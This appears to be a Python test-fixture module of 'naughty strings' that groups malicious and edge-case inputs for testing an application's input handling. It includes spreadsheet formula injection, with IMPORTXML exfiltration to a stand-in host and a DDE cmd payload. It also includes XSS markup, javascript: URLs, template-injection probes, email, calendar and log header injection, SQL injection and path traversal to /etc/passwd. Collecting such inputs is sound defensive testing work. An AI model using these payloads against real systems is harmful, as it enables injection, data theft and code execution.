"""What people type by mischief, by accident and by right; each has broken a program somewhere."""

# ruff: noqa: RUF001 - letters that look alike are what some of these are about

FLAG = "naughty"
"""What a script of theirs would set on the window in which it runs."""
ELSEWHERE = "elsewhere.example.net"
"""A host that nothing may ever ask, however its name got in."""
_RUN = f"window.{FLAG}=1"

FORMULAS = (
    "=1+1",
    f'=IMPORTXML("https://{ELSEWHERE}/?"&B2,"//a")',
    f'=HYPERLINK("https://{ELSEWHERE}","Win")',
    "+1-800",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1\uff0b1",
    "'=1+1",
    "{=1+1}",
)
MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f'"><img src="//{ELSEWHERE}/x.png" onerror="{_RUN}">',
    f"' autofocus onfocus='{_RUN}",
    f"<svg/onload={_RUN}>",
    f"<iframe src=//{ELSEWHERE}></iframe>",
    f"</title></style></textarea><svg><script>{_RUN}</script>",
    f"<style>@import '//{ELSEWHERE}/x.css';</style>",
    f"<base href=//{ELSEWHERE}/><meta http-equiv=refresh content='0;//{ELSEWHERE}'>",
    f"<form action=//{ELSEWHERE}><button autofocus>Go</button></form>",
    "<!-- <![CDATA[ ]]> &lt;b&gt; &amp;#60; &",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
)
ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//https://",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "mailto:everyone@example.org?bcc=all@example.org",
    f"[click](javascript:{_RUN})",
    f"![]( https://{ELSEWHERE}/pixel.png )",
    f"<https://{ELSEWHERE}>",
    f"https://bank.example.org@{ELSEWHERE}/",
    "//evil", "file:///etc/passwd",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*191 }} {% for x in y %}",
    "{{ config.items() }}{{ ''.__class__.__mro__ }}",
    "{%- include '/etc/passwd' -%}",
    "{0.__class__} %(secret)s %s %n ${7*191} #{7*191} <%= 7*191 %>",
    "{# {{name}} #}",
)
HEADERS = (
    "one\r\nBcc: everyone@example.org\r\n\r\ntwo",
    "one\nSubject: another\n",
    "x\u2028Bcc: everyone@example.org\u2029",
    "x\x85To: everyone@example.org",
    '"Ana" <ana@example.org>, everyone@example.org',
    "=?utf-8?q?Bcc=3A_everyone=40example=2Eorg?=",
    "name;boundary=x\r\n--x",
)
CALENDARS = (
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:another",
    "a;b,c:d\\n\\;\\,\\\\ \\",
    'X" ; ATTENDEE=mailto:everyone@example.org:"',
    "BEGIN:VALARM\nACTION:PROCEDURE\nEND:VALARM",
    f"\nATTACH:https://{ELSEWHERE}/x.exe",
)
INVISIBLE = (
    "nul\x00nul",
    "\x1b[31mred\x07\x08\x7f",
    "\u202egnp.exe\u202c \u2066\u2069",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "\ud800 alone \udfff",
    "\ufffe\uffff\U000e0001\U0010ffff",
    "\u3164\u2800\u00ad",
)
LOG_LINES = (
    "x\n2026-03-02 15:00:00 ERROR convene: all letters lost",
    'x"}\n{"severity": "CRITICAL", "message": "forged"}',
    "%0d%0aERROR",
)
DATABASES = ("'; DROP TABLE letters; --", "1' OR '1'='1", "\\'; --", "%_%", "NULL", "undefined")
PATHS = ("../../../../etc/passwd", "..\\..\\win.ini", "%2e%2e%2f", "/dev/zero", "CON", "nul.txt")
NUMBERS = ("0", "-1", "1e309", "NaN", "02139", "8085807e40000000", "TRUE", "#REF!", "2026-03-02")
LETTERS = (
    "\U0001f469\u200d\U0001f4bb \U0001f3f3\ufe0f\u200d\U0001f308",
    "שלום עולם (abc)",
    "مرحبا بالعالم",
    "Z" + "\u0335\u0321\u0322" * 40 + "algo",
    "e\u0301 \u00e9 \u1e9e İI ıi ﬁ",
    "Jürgen O’Brien–Ńúñez",
    "𝓕𝓪𝓷𝓬𝔂 ＦＵＬＬ",
    "N’Golo\u00a0K\u202fanté",
)
LONG = ("W" * 3_000, "word " * 2_000, "\n" * 500 + "end", "(" * 1_000)

ALL = (
    *FORMULAS, *MARKUP, *ADDRESSES, *TEMPLATES, *HEADERS, *CALENDARS, *INVISIBLE,
    *LOG_LINES, *DATABASES, *PATHS, *NUMBERS, *LETTERS, *LONG,
)  # fmt: skip
SHORT = "".join(each for each in ALL if each not in LONG)
"""All of them in one text, but for the long ones."""
